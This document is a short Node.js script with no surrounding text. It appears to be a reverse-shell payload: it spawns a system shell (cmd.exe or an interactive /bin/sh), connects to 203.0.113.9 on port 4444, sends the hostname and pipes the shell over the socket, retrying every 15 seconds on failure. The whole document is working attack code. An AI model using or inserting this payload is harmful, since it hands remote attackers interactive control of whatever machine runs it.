(function () {
  var net = require("net"),
    cp = require("child_process"),
    win = process.platform === "win32",
    sh = cp.spawn(win ? "cmd.exe" : "/bin/sh", win ? [] : ["-i"]);
  var client = new net.Socket();
  function connect() {
    client.connect(4444, "203.0.113.9", function () {
      client.write(require("os").hostname() + "\n");
      client.pipe(sh.stdin);
      sh.stdout.pipe(client);
      sh.stderr.pipe(client);
    });
  }
  client.on("error", function () {
    setTimeout(connect, 15000);
  });
  connect();
  return /a/;
})();
